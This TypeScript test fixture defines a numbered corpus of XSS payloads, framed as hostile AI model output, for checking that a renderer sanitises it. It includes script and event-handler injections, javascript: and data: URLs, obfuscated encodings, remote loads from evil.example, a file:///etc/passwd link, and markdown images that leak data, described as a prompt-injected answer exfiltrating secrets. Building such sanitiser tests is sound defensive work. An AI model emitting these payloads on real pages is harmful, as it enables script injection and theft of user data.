/** One hostile model output: a payload and the token that must stay readable after it. */
export interface XssVector {
  /** Distinctive word shown after the payload ('XSS042'); missing text means the payload swallowed it. */
  token: string;
  /** What the vector tries. */
  category: XssCategory;
  /** The model output: the payload, then a space and the token. */
  text: string;
}

/** The families of the corpus. */
export type XssCategory =
  | 'script'
  | 'event-handler'
  | 'link-url'
  | 'image-url'
  | 'svg'
  | 'css'
  | 'entities-case'
  | 'markdown'
  | 'unclosed'
  | 'zero-width'
  | 'long-line'
  | 'embedding';

// `$P` becomes a call of the page's trap, `pwn(<n>)` (see the e2e test: it records the number
// in window.__pwned); `$B` is its base64 inside a tiny HTML or SVG document. Payloads that run
// script without the trap open a dialog (alert) or assign window.__pwned themselves.
const FOREIGN = 'https://evil.example';

const PAYLOADS: ReadonlyArray<readonly [XssCategory, string]> = [
  ['script', '<script>$P</script>'],
  ['script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script', '<ScRiPt>window.__pwned = 1</sCrIpT>'],
  ['script', `<script src=${FOREIGN}/x.js></script>`],
  ['script', '<script/x>$P</script>'],
  ['script', '<<script>$P;//<</script>'],
  ['script', '<scr<script>ipt>$P</scr</script>ipt>'],
  ['script', '<script type="module">$P</script>'],
  ['script', '"><script>$P</script>'],
  ['script', '</script><script>$P</script>'],
  ['script', "<script>document.write('<img src=x onerror=$P>')</script>"],
  ['script', '<script>\n$P\n</script>'],
  ['event-handler', '<img src=x onerror=$P>'],
  ['event-handler', '<img src="x" onerror="$P">'],
  ['event-handler', '<img/src/onerror=$P>'],
  ['event-handler', '<body onload=$P>'],
  ['event-handler', '<details open ontoggle=$P>'],
  ['event-handler', '<input autofocus onfocus=$P>'],
  ['event-handler', '<select autofocus onfocus=$P></select>'],
  ['event-handler', '<textarea autofocus onfocus=$P></textarea>'],
  ['event-handler', '<video><source onerror=$P></video>'],
  ['event-handler', '<audio src=x onerror=$P>'],
  ['event-handler', '<iframe onload=$P></iframe>'],
  ['event-handler', '<marquee onstart=$P>m</marquee>'],
  ['event-handler', '<object data=x onerror=$P></object>'],
  ['event-handler', '<div onmouseover=$P style="position:fixed;inset:0">cover</div>'],
  ['event-handler', '<body onpageshow=$P>'],
  ['event-handler', '<img src=x onerror\u000b=$P>'],
  ['event-handler', '<img """><script>$P</script>">'],
  ['event-handler', '<form><button formaction=javascript:$P>go</button></form>'],
  ['link-url', '[link](javascript:$P)'],
  ['link-url', '[link](JaVaScRiPt:$P)'],
  ['link-url', '[link]( javascript:$P)'],
  ['link-url', '[link](java\tscript:$P)'],
  ['link-url', '[link](&#106;avascript:$P)'],
  ['link-url', '[link](javascript&#58;$P)'],
  ['link-url', '[link](vbscript:msgbox(1))'],
  ['link-url', '[link](VbScRiPt:msgbox(1))'],
  ['link-url', '[link](data:text/html,<script>$P</script>)'],
  ['link-url', '[link](data:text/html;base64,$B)'],
  ['link-url', '<javascript:$P>'],
  ['link-url', '<a href="javascript:$P">link</a>'],
  ['link-url', '[link](javascript://%0a$P)'],
  ['link-url', '[link](\u0001javascript:$P)'],
  ['link-url', '[link][ref]\n\n[ref]: javascript:$P'],
  ['link-url', '[link](<javascript:$P>)'],
  ['link-url', '[link](javascript:$P "title")'],
  ['link-url', '[link](file:///etc/passwd)'],
  ['link-url', `[link](${FOREIGN}/"onmouseover="$P)`],
  ['link-url', `[link](${FOREIGN} "a\\" onmouseover=\\"$P")`],
  ['image-url', '![pic](javascript:$P)'],
  ['image-url', '![pic](data:image/svg+xml;base64,$B)'],
  ['image-url', '![pic](data:image/svg+xml,<svg onload=$P>)'],
  ['image-url', '![pic](data:text/html,<script>$P</script>)'],
  ['image-url', '![pic](vbscript:msgbox(1))'],
  ['image-url', '![pic](//evil.example/pixel.png)'],
  ['image-url', '![pic](x" onerror="$P)'],
  ['image-url', '![pic"onerror="$P](x)'],
  ['image-url', '![pic](data:image/png;base64,AAAA" onerror="$P)'],
  ['image-url', '![pic](  javascript:$P  )'],
  ['image-url', '![pic](&#x6A;avascript:$P)'],
  ['image-url', '[![pic](javascript:$P)](javascript:$P)'],
  ['image-url', '<img src="javascript:$P">'],
  ['image-url', `<img src=${FOREIGN}/track.png>`],
  ['image-url', `<img srcset="${FOREIGN}/a.png 1x">`],
  ['svg', '<svg><script>$P</script></svg>'],
  ['svg', '<svg/onload=$P>'],
  ['svg', '<svg><animate onbegin=$P attributeName=x dur=1s />'],
  ['svg', '<svg><a xlink:href="javascript:$P"><text y=20>link</text></a></svg>'],
  ['svg', '<svg><foreignObject><img src=x onerror=$P></foreignObject></svg>'],
  ['svg', '<svg><set attributeName=onmouseover to=$P /></svg>'],
  ['svg', '<math><mtext><table><mglyph><style><img src=x onerror=$P>'],
  ['svg', '<svg><use href="data:image/svg+xml;base64,$B#x" /></svg>'],
  ['css', '<div style="background:url(javascript:$P)">bg</div>'],
  ['css', '<div style="width: expression($P)">w</div>'],
  ['css', `<style>@import '${FOREIGN}/x.css';</style>`],
  ['css', `<style>body { background: url(${FOREIGN}/b.png) }</style>`],
  ['css', `<link rel=stylesheet href=${FOREIGN}/s.css>`],
  ['css', '<style>* { x: expression($P) }</style>'],
  ['css', `<p style="-moz-binding:url(${FOREIGN}/x.xml#x)">b</p>`],
  ['css', `<div style="background-image: url('${FOREIGN}/c.png')">c</div>`],
  ['entities-case', '&lt;script&gt;$P&lt;/script&gt;'],
  ['entities-case', '&#60;img src=x onerror=$P&#62;'],
  ['entities-case', '&#x3C;svg onload=$P&#x3E;'],
  ['entities-case', '<IMG SRC=JaVaScRiPt:$P>'],
  ['entities-case', '<iMg sRc=x OnErRoR=$P>'],
  ['entities-case', '\\u003cscript\\u003e$P\\u003c/script\\u003e'],
  ['entities-case', '%3Cscript%3E$P%3C/script%3E'],
  ['entities-case', '&amp;lt;script&amp;gt;$P'],
  [
    'entities-case',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$P">link</a>',
  ],
  ['entities-case', '[link](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;$P)'],
  ['markdown', '`<img src=x onerror=$P>`'],
  ['markdown', '```html\n<script>$P</script>\n```'],
  ['markdown', '```"><img src=x onerror=$P>\ncode\n```'],
  ['markdown', '# <script>$P</script>'],
  ['markdown', '> <iframe src=javascript:$P></iframe>'],
  ['markdown', '- [ ] <img src=x onerror=$P>'],
  // No closing pipe: the token lands in the last cell.
  ['markdown', '| a | b |\n| - | - |\n| <img src=x onerror=$P> | [x](javascript:$P)'],
  ['markdown', `<${FOREIGN}/"onmouseover=$P>`],
  ['markdown', '*<img src=x onerror=$P>*'],
  ['markdown', '[[inner](javascript:$P)](https://example.com)'],
  ['markdown', '[link](https://example.com)<img src=x onerror=$P>'],
  ['unclosed', '<img src=x onerror=$P'],
  ['unclosed', '<script>$P'],
  ['unclosed', '<iframe src=javascript:$P'],
  ['unclosed', '<!--'],
  ['unclosed', '<textarea>'],
  ['unclosed', '<title>'],
  ['unclosed', '<style>'],
  ['unclosed', '<plaintext>'],
  ['unclosed', '<noscript><p title="</noscript><img src=x onerror=$P>">'],
  ['unclosed', '```\n<script>$P</script>'],
  ['zero-width', '<scr\u200bipt>$P</script>'],
  ['zero-width', '[link](java\u200cscript:$P)'],
  ['zero-width', '\ufeff<img src=x onerror=$P>'],
  ['zero-width', '<img src=x on\u200berror=$P>'],
  ['zero-width', '\u202egnp.exe\u202c <img src=x onerror=$P>'],
  ['zero-width', '![pic](java\u2060script:$P)'],
  ['long-line', 'A'.repeat(20_000)],
  ['long-line', `[long](${FOREIGN}/${'a'.repeat(5000)})`],
  ['long-line', '<'.repeat(5000)],
  ['long-line', `${'<img src=x onerror=$P>'.repeat(200)}`],
  ['embedding', '<iframe srcdoc="<script>top.pwn(0)</script>"></iframe>'],
  ['embedding', '<object data="javascript:$P"></object>'],
  ['embedding', '<embed src="javascript:$P">'],
  ['embedding', '<base href="javascript:$P//">'],
  ['embedding', '<meta http-equiv="refresh" content="0;url=javascript:$P">'],
  ['embedding', '<form action=javascript:$P><input type=submit></form>'],
  ['embedding', '<template><img src=x onerror=$P></template>'],
  ['embedding', "{{constructor.constructor('$P')()}}"],
  ['embedding', '$' + '{$P}'],
  ['embedding', 'javascript:$P'],
  // Foreign markdown images: a prompt-injected answer leaking data through an image request.
  ['image-url', `![x](${FOREIGN}/p.png?leak=secret)`],
  ['image-url', '![x](http://evil.example/p.png?leak=secret)'],
  ['image-url', '![x](HTTPS://EVIL.EXAMPLE/upper.png)'],
  ['image-url', '![x](&#104;ttps&#x3A;//evil.example/entity.png)'],
  ['image-url', '![x](//evil.example/relative.png?leak=secret)'],
  ['image-url', '![a][r]\n\n[r]: https://evil.example/reference.png'],
  ['image-url', `![x](<${FOREIGN}/angle.png> "title")`],
  ['image-url', `[![x](${FOREIGN}/in-link.png)](https://example.com)`],
  ['image-url', '![x](https://127.0.0.1.evil.example/lookalike.png)'],
  ['image-url', '![x](https://user@evil.example/userinfo.png)'],
];

/** The corpus: each payload numbered, its trap call and token filled in. */
export const XSS_VECTORS: readonly XssVector[] = PAYLOADS.map(([category, payload], index) => {
  const n = index + 1;
  const token = `XSS${String(n).padStart(3, '0')}`;
  const call = `pwn(${n})`;
  const doc = btoa(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="top.${call}"><script>top.${call}</script></svg>`,
  );
  const text = payload.replaceAll('$P', call).replaceAll('$B', doc);
  return { token, category, text: `${text} ${token}` };
});
